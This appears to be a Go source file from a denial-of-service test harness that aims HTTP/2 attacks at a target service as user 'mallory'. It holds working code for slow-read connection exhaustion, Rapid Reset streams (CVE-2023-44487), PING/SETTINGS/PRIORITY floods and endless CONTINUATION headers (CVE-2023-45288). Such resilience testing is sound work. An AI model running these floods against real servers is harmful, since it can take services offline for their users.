package attack

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// frameAttacks are those over HTTP/2.
func frameAttacks() []attack {
	return []attack{
		{name: "slow-lists", what: "20 connections, 100 full lists each, nothing read", run: func(ctx context.Context, t *target) (string, error) {
			return readNothing(ctx, t, 20, 100, "/v1/users/mallory/inbox?limit=100", t.token(mallory))
		}},
		{name: "slow-pages", what: "390 connections without a token, 100 requests each, nothing read", run: func(ctx context.Context, t *target) (string, error) {
			return readNothing(ctx, t, 390, 100, "/belfry.js", "")
		}},
		{name: "waits", hint: true, what: "1,200 requests for a version that never comes", run: func(ctx context.Context, t *target) (string, error) {
			return readNothing(ctx, t, 12, 100, "/v1/users/mallory/unread?min_version=18446744073709551615", t.token(mallory))
		}},
		{name: "resets", what: "streams that are reset at once (CVE-2023-44487)", run: resets},
		{name: "control", what: "floods of PING, SETTINGS and PRIORITY, each answer read", run: controlFrames},
		{name: "headers", what: "headers that never end (CVE-2023-45288)", run: endlessHeaders},
	}
}

// frames is a connection over HTTP/2 from the attacker's address.
type frames struct {
	net.Conn
	*http2.Framer
	next uint32
}

// open returns one whose window lets nothing through, nil if it is refused.
func open(ctx context.Context, addr string) *frames {
	conn := dial(ctx, addr)
	if conn == nil {
		return nil
	}
	f := &frames{Conn: conn, Framer: http2.NewFramer(conn, conn), next: 1}
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil || f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}) != nil {
		conn.Close()
		return nil
	}
	return f
}

// request asks for path.
func (f *frames) request(path, token string) error {
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	fields := [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "localhost"}, {":path", path}}
	if token != "" {
		fields = append(fields, [2]string{"authorization", "Bearer " + token})
	}
	for _, field := range fields {
		if err := enc.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}); err != nil {
			return err
		}
	}
	err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: f.next, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true})
	f.next += 2
	return err
}

// listen reads frames, which keeps the server's buffers empty, until the connection ends.
func (f *frames) listen() (headers int) {
	for {
		frame, err := f.ReadFrame()
		if err != nil {
			return headers
		}
		if _, ok := frame.(*http2.HeadersFrame); ok {
			headers++
		}
	}
}

func readNothing(ctx context.Context, t *target, connections, streams int, path, token string) (string, error) {
	var taken, answered atomic.Int64
	var all sync.WaitGroup
	for range connections {
		all.Go(func() {
			f := open(ctx, t.addr)
			if f == nil {
				return
			}
			taken.Add(1)
			var reader sync.WaitGroup
			reader.Go(func() { answered.Add(int64(f.listen())) })
			for range streams {
				if f.request(path, token) != nil {
					break
				}
			}
			<-ctx.Done()
			f.Close()
			reader.Wait()
		})
	}
	all.Wait()
	return fmt.Sprintf("%d connections taken, %d requests answered", taken.Load(), answered.Load()), nil
}

// flood has so many connections at a time send until ctx ends, each read until it is
// closed: one that the server has ended is opened anew.
func flood(ctx context.Context, t *target, connections int, send func(*frames)) {
	until(ctx, connections, func() {
		f := open(ctx, t.addr)
		if f == nil {
			return
		}
		stop := context.AfterFunc(ctx, func() { f.Close() })
		defer stop()
		var reader sync.WaitGroup
		reader.Go(func() { f.listen() })
		send(f)
		f.Close()
		reader.Wait()
	})
}

func resets(ctx context.Context, t *target) (string, error) {
	var sent atomic.Int64
	flood(ctx, t, 4, func(f *frames) {
		for ctx.Err() == nil && f.request("/v1/users/mallory/inbox?limit=100", t.token(mallory)) == nil &&
			f.WriteRSTStream(f.next-2, http2.ErrCodeCancel) == nil {
			sent.Add(1)
		}
	})
	return fmt.Sprintf("%d streams", sent.Load()), nil
}

func controlFrames(ctx context.Context, t *target) (string, error) {
	var sent atomic.Int64
	flood(ctx, t, 8, func(f *frames) {
		var err error
		for i := 0; err == nil && ctx.Err() == nil; i++ {
			switch i % 3 {
			case 0:
				err = f.WritePing(false, [8]byte{1})
			case 1:
				err = f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i % 1000)})
			default:
				err = f.WritePriority(uint32(3+2*(i%1000)), http2.PriorityParam{StreamDep: 1, Weight: 7})
			}
			sent.Add(1)
		}
	})
	return fmt.Sprintf("%d frames", sent.Load()), nil
}

func endlessHeaders(ctx context.Context, t *target) (string, error) {
	var sent atomic.Int64
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for i := range 200 {
		if err := enc.WriteField(hpack.HeaderField{Name: fmt.Sprint("x-", i), Value: strings.Repeat("v", 60)}); err != nil {
			return "", err
		}
	}
	flood(ctx, t, 8, func(f *frames) {
		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block.Bytes()[:1000]})
		for err == nil && ctx.Err() == nil {
			err = f.WriteContinuation(1, false, block.Bytes())
			sent.Add(1)
		}
	})
	return fmt.Sprintf("%d frames of %d KB", sent.Load(), block.Len()>>10), nil
}
